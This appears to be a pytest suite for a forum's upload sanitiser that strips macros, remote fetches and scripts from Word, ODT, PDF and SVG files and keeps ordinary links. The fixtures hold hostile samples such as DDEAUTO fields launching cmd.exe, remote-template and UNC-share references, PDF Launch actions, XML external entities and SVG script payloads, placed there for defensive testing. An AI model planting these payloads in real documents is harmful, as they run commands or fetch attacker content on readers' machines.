"""Nothing that runs or fetches something is kept; links that a reader follows are."""

from io import BytesIO
from zipfile import ZipFile

import pytest
from pypdf import PdfReader

from forum.adapters.documents.active_content import (
    is_active_picture,
    refuse_active,
    without_active_text,
    without_remote_parts,
    without_remote_relations,
)
from forum.adapters.documents.file_types import check_file
from forum.adapters.documents.text import extract_document_text
from forum.domain.contributions.attachments import FileKind
from forum.errors import Invalid
from tests.support.attacks.bombs import pdf_with
from tests.support.content import files, hostile
from tests.support.content.cleaning import without_authors
from tests.support.content.hostile import ELSEWHERE, field

NAMES = "xmlns:xlink='x' xmlns:text='t' xmlns:draw='d' xmlns:office='o'"


def kept_part(sent: bytes, name: str) -> str:
    kept = without_authors(FileKind.DOCX, sent)
    assert extract_document_text(FileKind.DOCX, kept) == "We keep seeds."
    return ZipFile(BytesIO(kept)).read(name).decode()


def test_a_word_file_fetches_nothing_from_elsewhere_and_keeps_its_links() -> None:
    sent = hostile.word_with_relations(
        ("attachedTemplate", f"http://{ELSEWHERE}/t.dotm"),
        ("image", f"HTTPS://{ELSEWHERE}/p.png"),
        ("oleObject", f"file:///\\\\{ELSEWHERE}\\share\\o.docx!x"),
        ("frame", f"\\\\{ELSEWHERE}\\frame.htm"),
        ("hyperlink", f"mhtml:http://{ELSEWHERE}/x!a"),
        ("hyperlink", "https://seeds.example/?a=1&amp;b=2"),
    )
    left = kept_part(sent, "word/_rels/footer9.xml.rels")
    assert ELSEWHERE not in left
    assert 'Target="https://seeds.example/?a=1&amp;b=2"' in left
    assert left.count("<Relationship ") == 6  # Word calls a file damaged where one is missing


@pytest.mark.parametrize(
    "part",
    [
        b"<r:Relationships xmlns:r='p'><r:Relationship Target='&#104;ttp://x' Type='t/image'/>"
        b"</r:Relationships>",
        "<?xml version='1.0' encoding='utf-16'?><Relationships><Relationship Type='t/image' "
        "Target='http://x'/></Relationships>".encode("utf-16"),
    ],
)
def test_relations_are_read_as_word_reads_them(part: bytes) -> None:
    assert b"about:blank" in without_remote_relations(part)


@pytest.mark.parametrize(
    "body",
    [
        field(r'DDEAUTO c:\\windows\\cmd.exe "/k calc"'),
        field("D", "DE", r" c:\\cmd.exe x"),
        field(r' INCLUDEPICTURE "http://evil.example/p.png" \* MERGEFORMAT '),
        field(r"QUOTE 1 ", field("&#68;DE c:\\\\cmd.exe")),
        field("", field("QUOTE 68 68 69 65"), r' "c:\\\\cmd.exe" "/k calc"'),
        field(" ", field("QUOTE 68"), r"DEAUTO c:\\cmd.exe"),
        field(r"DDEAUTO c:\\cmd.exe").replace("instrText", "delInstrText"),
        '<w:fldSimple w:instr="DDE cmd.exe"><w:r><w:t>Kept result</w:t></w:r></w:fldSimple>',
    ],
)
def test_fields_that_start_or_fetch_something_keep_only_what_they_show(body: str) -> None:
    left = kept_part(hostile.word_with_body(body), "word/footer9.xml")
    for word in ("cmd", "evil", "DDE"):
        assert word not in left
    assert "Kept result" in left


def test_a_form_letter_asks_no_database() -> None:
    body = (
        "<w:mailMerge><w:connectString w:val='Data Source=\\\\cmd\\x'/>"
        '<w:query w:val="SELECT * FROM evil"/></w:mailMerge><w:t>Kept result</w:t>'
    )
    left = kept_part(hostile.word_with_body(body), "word/footer9.xml")
    assert "evil" not in left
    assert "cmd" not in left
    assert "Kept result" in left
    with pytest.raises(Invalid):
        refuse_active(b"<x><mailMerge/><udl val='a>b'/></x>", is_opendocument=False)


@pytest.mark.parametrize("body", [field(" PAGE "), field(" IF ", field(" PAGE "), " = 1 a b")])
def test_other_fields_stay(body: str) -> None:
    assert "> PAGE </" in kept_part(hostile.word_with_body(body), "word/footer9.xml")


@pytest.mark.parametrize(
    "body",
    [
        "<w:r><w:instrText><![CDATA[DDE]]> cmd.exe</w:instrText></w:r>",
        '<w:fldSimple w:instr="DDE a>b"/>',
    ],
)
def test_an_active_field_that_hides_is_refused(body: str) -> None:
    with pytest.raises(Invalid) as refused:
        without_authors(FileKind.DOCX, hostile.word_with_body(body))
    assert refused.value.code == "file_active"


def test_pages_and_programs_inside_a_document_are_emptied() -> None:
    sent = files.repacked(files.word("We keep seeds."), {"word/afchunk.mht": b"<img src=http://x>"})
    assert kept_part(sent, "word/afchunk.mht") == ""


def test_an_odt_fetches_nothing_from_elsewhere_and_keeps_its_links() -> None:
    body = (
        f'<text:p><draw:image xlink:href="http://{ELSEWHERE}/p.png"/>'
        '<draw:image xlink:href="Pictures/a.png"/><text:a xlink:href="https://seeds.example/">x'
        f'</text:a><text:a xlink:href="vnd.sun.star.script:{ELSEWHERE}">y</text:a>'
        f'<text:dde-connection-decl office:dde-application="soffice" office:dde-topic="{ELSEWHERE}"'
        "/></text:p>"
    )
    left = without_remote_parts(f"<office:x {NAMES}>{body}</office:x>")
    assert ELSEWHERE not in left
    assert 'xlink:href="Pictures/a.png"' in left
    assert 'xlink:href="https://seeds.example/"' in left
    refuse_active(left.encode(), is_opendocument=True)


def test_an_odt_part_elsewhere_that_hides_is_refused() -> None:
    part = f"<a {NAMES}><draw:image xlink:title='>' xlink:href='http://{ELSEWHERE}/'/></a>"
    assert ELSEWHERE in without_remote_parts(part)
    with pytest.raises(Invalid, match="file_active"):
        refuse_active(part.encode(), is_opendocument=True)


def test_text_without_fields_stays_as_it_is() -> None:
    assert without_active_text("<w:t>DDE is a field.</w:t>") == "<w:t>DDE is a field.</w:t>"


def test_a_pdf_runs_starts_sends_and_holds_nothing_and_keeps_its_links() -> None:
    left = without_authors(FileKind.PDF, hostile.active_pdf())
    assert extract_document_text(FileKind.PDF, left) == "We keep seeds."
    whole = left + b"".join(
        str(found.get_object()).encode()
        for found in (PdfReader(BytesIO(left)).get_object(n) for n in range(1, 60))
        if found is not None
    )
    for word in (ELSEWHERE, "/JavaScript", "/Launch", "/OpenAction", "/AA", "MZ attached"):
        assert word.encode() not in whole, word
    assert b"https://seeds.example/" in whole


LINK = b"/Annots [<< /Type /Annot /Subtype /Link /A << %s >> >>]"
SHARE = rb"(\\\\elsewhere\\run.exe)"


@pytest.mark.parametrize(
    ("page", "other"),
    [
        (LINK % b"/S 4 0 R /F (elsewhere)", b"/Launch"),
        (LINK % b"/S /URI /URI 4 0 R", b"(javascript:elsewhere)"),
        (LINK % b"/S /L#61unch /F (elsewhere)", b"0"),
        (LINK % (b"/S /GoToR /F << /F %s >>" % SHARE), b"0"),
        (LINK % b"/S /GoToR /F 4 0 R", SHARE),
        (LINK % (b"/S /Thread /D 1 /F %s" % SHARE), b"0"),
        (
            b"/Resources << /XObject << /I 4 0 R >> >>",
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Length 0 /OPI << /F %s >> >>"
            b"\nstream\n\nendstream" % SHARE,
        ),
    ],
)
def test_what_is_active_in_a_pdf_is_found_wherever_its_words_stand(
    page: bytes, other: bytes
) -> None:
    assert b"elsewhere" not in without_authors(FileKind.PDF, pdf_with(page, other))


def test_a_page_inside_a_document_is_emptied_whatever_its_name() -> None:
    sent = files.word("We keep seeds.")
    types = ZipFile(BytesIO(sent)).read("[Content_Types].xml")
    listed = types.replace(
        b"<Default ", b'<Override PartName="/word/chunk.dat" ContentType="text/html"/><Default ', 1
    )
    page = f"<img src=http://{ELSEWHERE}>".encode()
    sent = files.repacked(sent, {"[Content_Types].xml": listed, "word/chunk.dat": page})
    assert kept_part(sent, "word/chunk.dat") == " "


@pytest.mark.parametrize("name", ["document.dat", "document"])
def test_a_part_is_read_as_word_reads_it_whatever_its_name(name: str) -> None:
    sent = files.word("We keep seeds.")
    old = {part: ZipFile(BytesIO(sent)).read(part) for part in ZipFile(BytesIO(sent)).namelist()}
    active = field(rf"DDEAUTO c:\\{ELSEWHERE}\\cmd.exe", shown="").encode()
    body = old["word/document.xml"].replace(b"<w:body>", b"<w:body>" + active)
    renamed = {
        part: old[part].replace(b"word/document.xml", f"word/{name}".encode())
        for part in ("[Content_Types].xml", "_rels/.rels")
    }
    moved = {"word/document.xml": None, f"word/{name}": body, **renamed}
    assert ELSEWHERE not in kept_part(files.repacked(sent, moved), f"word/{name}")


@pytest.mark.parametrize("kind", ["oleObject", "package", "aFChunk", "attachedToolbars"])
@pytest.mark.parametrize(
    "target", ["stuff/program.dat", "/word/stuff/program.dat", "stuff/%70rogram.dat"]
)
def test_a_file_of_another_program_is_emptied_wherever_it_lies(kind: str, target: str) -> None:
    sent = hostile.word_with_relations((kind, target))
    sent = files.repacked(sent, {"word/stuff/program.dat": b"MZ a program"})
    assert kept_part(sent, "word/stuff/program.dat") == ""


def test_additions_to_the_window_of_word_are_not_found_by_it() -> None:
    sent = hostile.word_with_relations(("webextensiontaskpanes", "panes.xml"))
    sent = files.repacked(sent, {"word/panes.xml": b"<panes store='x'/>"})
    assert kept_part(sent, "word/panes.xml") == ""
    assert "panes" not in kept_part(sent, "word/_rels/footer9.xml.rels")


def test_an_old_drawing_fetches_no_picture() -> None:
    part = (
        f"<w:pict xmlns:w='w' xmlns:v='v' xmlns:o='o'><v:shape href='https://seeds.example/'>"
        f"<v:imagedata src='http://{ELSEWHERE}/p.png' o:href='\\\\{ELSEWHERE}\\p.png'/>"
        f"<v:fill src='media/a.png' o:althref=\"http://{ELSEWHERE}/q\"/></v:shape></w:pict>"
    )
    left = without_active_text(part)
    assert ELSEWHERE not in left
    assert "media/a.png" in left
    assert "https://seeds.example/" in left
    refuse_active(left.encode(), is_opendocument=False)
    with pytest.raises(Invalid, match="file_active"):
        refuse_active(part.encode(), is_opendocument=False)


@pytest.mark.parametrize("kind", ["control", "vbaProject", "activeXControlBinary"])
def test_a_document_that_names_a_program_is_refused(kind: str) -> None:
    with pytest.raises(Invalid, match="file_macros"):
        without_authors(FileKind.DOCX, hostile.word_with_relations((kind, "plain.bin")))


def test_a_whole_document_in_one_part_that_fetches_something_is_refused() -> None:
    target = f"http://{ELSEWHERE}/t.dotm"
    part = f'<p><Relationship Type="x/attachedTemplate" Target="{target}"/></p>'.encode()
    with pytest.raises(Invalid, match="file_active"):
        refuse_active(part, is_opendocument=False)
    refuse_active(part.replace(b"attachedTemplate", b"hyperlink"), is_opendocument=False)


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'


@pytest.mark.parametrize(
    "drawn",
    [
        "<script>alert(1)</script>",
        "<s:script xmlns:s='http://www.w3.org/2000/svg'>alert(1)</s:script>",
        '<g onload="alert(1)"/>',
        f'<image xlink:href="http://{ELSEWHERE}/p.png"/>',
        '<a href="java&#115;cript:alert(1)">x</a>',
        f"<style>g {{ fill: url(//{ELSEWHERE}/p) }}</style>",
        "<foreignObject><p/></foreignObject>",
    ],
)
def test_an_active_drawing_is_emptied(drawn: str) -> None:
    assert is_active_picture(SVG.format(drawn).encode())
    assert is_active_picture(SVG.format(drawn).encode("utf-16"))


@pytest.mark.parametrize(
    "drawn",
    [
        '<rect fill="url(#seed)"/><use xlink:href="#seed"/>',
        '<image href="data:image/png;base64,AA=="/><text>scripts are on paper</text>',
    ],
)
def test_other_drawings_stay(drawn: str) -> None:
    assert not is_active_picture(SVG.format(drawn).encode())


def test_an_active_drawing_inside_a_document_is_emptied() -> None:
    drawn = SVG.format("<script>alert(1)</script>").encode()
    sent = files.repacked(files.word("We keep seeds."), {"word/media/a.svg": drawn})
    assert kept_part(sent, "word/media/a.svg") == ""


PAGE = b"<html><script>alert(1)</script></html>"


@pytest.mark.parametrize(
    "sent",
    [
        PAGE,
        SVG.format("<script>alert(1)</script>").encode(),
        b"GIF89a=1;alert(1)",
        b"\x89PNG\r\n\x1a\n" + PAGE,
        b"\xff\xd8\xff" + PAGE,
        b"RIFF=1;alert(1)//WEBP",
        b"%PDF-1.7\n" + PAGE + b"\nstartxref\n0\n%%EOF",
        PAGE + files.word("We keep seeds."),
        files.word("We keep seeds.") + PAGE,
        files.pdf("We keep seeds.") + files.word("We keep seeds."),
        b"MZ" + bytes(100),
    ],
    ids=lambda sent: repr(sent[:4]),  # behind them a package has the time at which it was made
)
def test_what_pretends_to_be_a_file_is_refused(sent: bytes) -> None:
    with pytest.raises(Invalid, match="file_type"):
        check_file(BytesIO(sent))


@pytest.mark.parametrize(
    "sent",
    [
        files.picture() + PAGE,
        files.picture("JPEG") + PAGE,
        files.picture() + files.word("We keep seeds."),
        PAGE + files.pdf("We keep seeds."),
        files.pdf("We keep seeds.") + PAGE,
    ],
    ids=["PNG and page", "JPEG and page", "PNG and archive", "page and PDF", "PDF and page"],
)
def test_of_two_files_in_one_only_the_one_that_is_meant_is_kept(sent: bytes) -> None:
    left = check_file(BytesIO(sent)).content
    assert b"alert" not in left
    assert b"PK\x03\x04" not in left


REMOTE_TYPE = f'<!DOCTYPE a PUBLIC "-//x" "http://{ELSEWHERE}/a.dtd">'


@pytest.mark.parametrize("kind", [FileKind.DOCX, FileKind.ODT])
def test_no_part_names_a_document_type_that_a_program_could_fetch(kind: FileKind) -> None:
    name = "word/footer9.xml" if kind is FileKind.DOCX else "Object 1/content.xml"
    sent = files.word("We keep seeds.") if kind is FileKind.DOCX else files.odt()
    kept = without_authors(kind, files.repacked(sent, {name: f"{REMOTE_TYPE}<a>Kept</a>".encode()}))
    assert ZipFile(BytesIO(kept)).read(name) == b"<a>Kept</a>"


def test_words_about_a_document_type_stay() -> None:
    page = b"<w:t xmlns:w='w'><![CDATA[Begin with <!DOCTYPE html>.]]></w:t>"
    sent = files.repacked(files.word("We keep seeds."), {"word/footer9.xml": page})
    assert "<!DOCTYPE html>." in kept_part(sent, "word/footer9.xml")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize(
    "declared",
    [f'<!ENTITY e SYSTEM "http://{ELSEWHERE}/e">', f'<!ENTITY % p SYSTEM "//{ELSEWHERE}/p"> %p;'],
)
def test_a_document_type_with_declarations_is_refused(declared: str, encoding: str) -> None:
    part = f"<!DOCTYPE a [{declared}]><a>&e;</a>".encode(encoding)
    sent = files.repacked(files.word("We keep seeds."), {"word/footer9.xml": part})
    with pytest.raises(Invalid, match="file_active"):
        check_file(BytesIO(sent))
